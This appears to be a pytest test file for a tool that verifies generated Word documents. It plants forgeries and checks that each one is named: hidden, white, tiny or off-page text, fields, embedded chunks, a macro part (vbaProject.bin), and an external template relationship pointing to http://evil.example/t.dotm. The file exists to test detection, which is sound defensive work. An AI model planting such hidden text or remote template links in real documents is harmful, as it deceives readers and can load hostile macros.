"""What no build and no plain save of a word processor writes is named; their own saves pass."""

from __future__ import annotations

import re
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from sent_files import replaced, rezipped, zipped
from sourcebrief.documents.word.opc_package import Package, w, w_element
from sourcebrief.verification.foreign_in_docx import foreign_in_docx
from sourcebrief.verification.remake import Remade
from sourcebrief.verification.verify import verify

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from inspections import Built

BODY = "word/document.xml"
RUN = "<w:r>"


@pytest.mark.parametrize("briefing", ["harbours", "muelle"])
def test_a_built_document_holds_nothing_foreign(built: Built, briefing: str) -> None:
    data = built.bytes(briefing, "docx")
    assert foreign_in_docx(data, None) == []
    assert foreign_in_docx(data, data) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here")
@pytest.mark.parametrize("briefing", ["harbours", "muelle"])
def test_what_libreoffice_saves_verifies(built: Built, briefing: str, tmp_path: Path) -> None:
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    command += ["--convert-to", "docx:MS Word 2007 XML", "--outdir", str(tmp_path)]
    command.append(str(built.file(briefing, "docx")))
    subprocess.run(command, check=True, capture_output=True)
    data = built.bytes(briefing, "docx")
    saved = (tmp_path / f"{briefing}.docx").read_bytes()
    verdict = verify(saved, remade=Remade(data))
    assert (verdict.problems, verdict.reached) == ((), ("read",))
    assert "a word processor has saved it again" in " ".join(verdict.unchecked)


def in_styles(properties: str) -> Callable[[str, bytes], bytes | None]:
    return replaced(
        "word/styles.xml", "<w:rPrDefault>", f"<w:rPrDefault><w:rPr>{properties}</w:rPr>"
    )


def before_a_run(xml: str) -> Callable[[str, bytes], bytes | None]:
    return replaced(BODY, RUN, f"{xml}{RUN}")


def in_a_run(properties: str) -> Callable[[str, bytes], bytes | None]:
    return replaced(BODY, RUN, f"{RUN}<w:rPr>{properties}</w:rPr>")


FORGERIES: dict[str, tuple[Callable[[str, bytes], bytes | None], str]] = {
    "hidden by a style": (in_styles("<w:vanish/>"), "the element vanish"),
    "hidden": (in_a_run("<w:vanish/>"), "the element vanish"),
    "white": (in_a_run('<w:color w:val="FEFEFE"/>'), "the colour of what is behind it"),
    "white by a style": (in_styles('<w:color w:val="ffffff"/>'), "the colour of what is behind it"),
    "black on black": (
        in_a_run('<w:shd w:val="clear" w:fill="000000"/>'), "the colour of what is behind it",
    ),
    "a colour of the theme": (
        in_a_run('<w:color w:val="000000" w:themeColor="background1"/>'), "the colour of a theme",
    ),
    "tiny": (in_a_run('<w:sz w:val="1"/>'), "too small to be seen"),
    "lowered": (in_a_run('<w:position w:val="-900"/>'), "the element position"),
    "squeezed": (in_a_run('<w:w w:val="1"/>'), "the element w,"),
    "in a frame": (
        replaced(BODY, "<w:pPr>", '<w:pPr><w:framePr w:x="-9999"/>'), "the element framePr",
    ),
    "beside the page": (
        replaced(BODY, "<w:pPr>", '<w:pPr><w:ind w:left="30000"/>'), "beside the page",
    ),
    "in lines of no height": (
        replaced(BODY, "<w:pPr>", '<w:pPr><w:spacing w:line="1" w:lineRule="exact"/>'),
        "a height that can hide them",
    ),
    "a field": (
        before_a_run('<w:fldSimple w:instr="QUOTE &quot;Not so&quot;"/>'), "a field computes",
    ),
    "a field in parts": (
        before_a_run("<w:r><w:instrText> IF 1 = 1 yes </w:instrText></w:r>"), "a field computes",
    ),
    "an equation": (
        before_a_run(
            '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"/>'
        ),
        "the element oMath",
    ),
    "fallback content": (
        before_a_run(
            "<mc:AlternateContent xmlns:mc="
            '"http://schemas.openxmlformats.org/markup-compatibility/2006"/>'
        ),
        "the element AlternateContent",
    ),
    "a chunk of another format": (
        before_a_run('<w:altChunk r:id="rId99"/>'), "the element altChunk",
    ),
    "a control": (
        before_a_run("<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr></w:sdt>"),
        "the element dataBinding",
    ),
    "words in the numbers of a list": (
        replaced("word/numbering.xml", 'w:lvlText w:val="', 'w:lvlText w:val="Not so: '),
        "the number of a list holds words",
    ),
    "a template": (
        replaced(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            '<Relationship Id="rId77" Type="http://x/attachedTemplate" TargetMode="External" '
            'Target="http://evil.example/t.dotm"/></Relationships>',
        ),
        "it has a relation of the kind attachedTemplate, to http://evil.example",
    ),
    "a head taken out": (
        lambda name, data: data.replace(b"w:headerReference", b"w:bookmarkStart")
        if name == BODY else data,
        "its headers were taken out",
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", FORGERIES)
def test_a_forged_document_is_found_by_verify(built: Built, kind: str) -> None:
    data = built.bytes("harbours", "docx")
    edit, said = FORGERIES[kind]
    verdict = verify(rezipped(data, edit), remade=Remade(data))
    assert any(said in words for words in verdict.problems), verdict.problems


def test_a_foreign_part_is_named(built: Built) -> None:
    data = built.bytes("muelle", "docx")
    package = Package(data)
    parts = {name: package.read(name) for name in package}
    forged = zipped(**parts, **{"word/vbaProject.bin": b"\0"})
    said = "it carries the part word/vbaProject.bin, which no build writes"
    assert foreign_in_docx(forged, data) == [said]


def test_links_that_were_swapped_are_named(built: Built) -> None:
    data = built.bytes("harbours", "docx")
    package = Package(data)
    (name,) = (one for one in package if one == "word/_rels/document.xml.rels")
    targets = [
        str(one.get("Target")) for one in package.tree(name) if one.get("TargetMode") == "External"
    ]
    first, other = targets[0], next(one for one in targets if one != targets[0])

    def swap(part: str, content: bytes) -> bytes:
        if part != name:
            return content
        marked = content.replace(f'"{first}"'.encode(), b'"@"')
        marked = marked.replace(f'"{other}"'.encode(), f'"{first}"'.encode())
        return marked.replace(b'"@"', f'"{other}"'.encode())

    for remade in (None, Remade(data)):
        problems = verify(rezipped(data, swap), remade=remade).problems
        assert sum("on other words in its evidence" in words for words in problems) >= 2


@pytest.mark.parametrize("element", ["w:gridCol", "w:tcW", "w:pgSz"])
def test_a_width_that_is_no_number_is_no_fault_of_ours(built: Built, element: str) -> None:
    data = built.bytes("harbours", "docx")
    number = re.compile(rf'(<{element} [^>]*?w:w=")\d+'.encode())
    forged = rezipped(data, lambda _, content: number.sub(rb"\1wide", content))
    verdict = verify(forged, remade=Remade(data))
    assert verdict.problems
    assert not verdict.unreadable


def test_another_picture_is_named(built: Built) -> None:
    data = built.bytes("harbours", "docx")
    forged = rezipped(
        data, lambda name, content: content[:-1] if name.endswith(".png") else content
    )
    said = verify(forged, remade=Remade(data)).problems
    assert "it carries another picture than its evidence makes" in said


NAMES = st.text("abcdefghijklmnopqrstuvwxyz", min_size=5, max_size=12)
LOOKS = st.sampled_from(
    [
        *(("sz", f"{size}") for size in (7, 13, 41, 145)),
        *(("color", colour) for colour in ("FEFEFE", "8A8A8A", "FF0000")),
        *(("u", "dotted"), ("vertAlign", "subscript")),
    ]
)


@settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(place=st.floats(0, 1, exclude_max=True), name=NAMES, look=LOOKS)
def test_a_random_element_or_look_is_found_wherever_it_is_put(
    built: Built, place: float, name: str, look: tuple[str, str]
) -> None:
    data = built.bytes("muelle", "docx")
    package = Package(data)
    elements = list(package.body().iter(etree.Element))
    etree.SubElement(elements[int(place * len(elements))], w(name))
    assert any(f"the element {name}," in words for words in foreign_in_docx(package.bytes(), data))

    package = Package(data)
    runs = [run for run in package.body().iter(w("r")) if "".join(run.itertext(w("t"))).strip()]
    run = runs[int(place * len(runs))]
    properties = run.find(w("rPr"))
    if properties is None:
        properties = w_element("rPr")
        run.insert(0, properties)
    before = properties.find(w(look[0]))
    if before is not None:
        properties.remove(before)
    properties.append(w_element(look[0], val=look[1]))
    assert foreign_in_docx(package.bytes(), data)
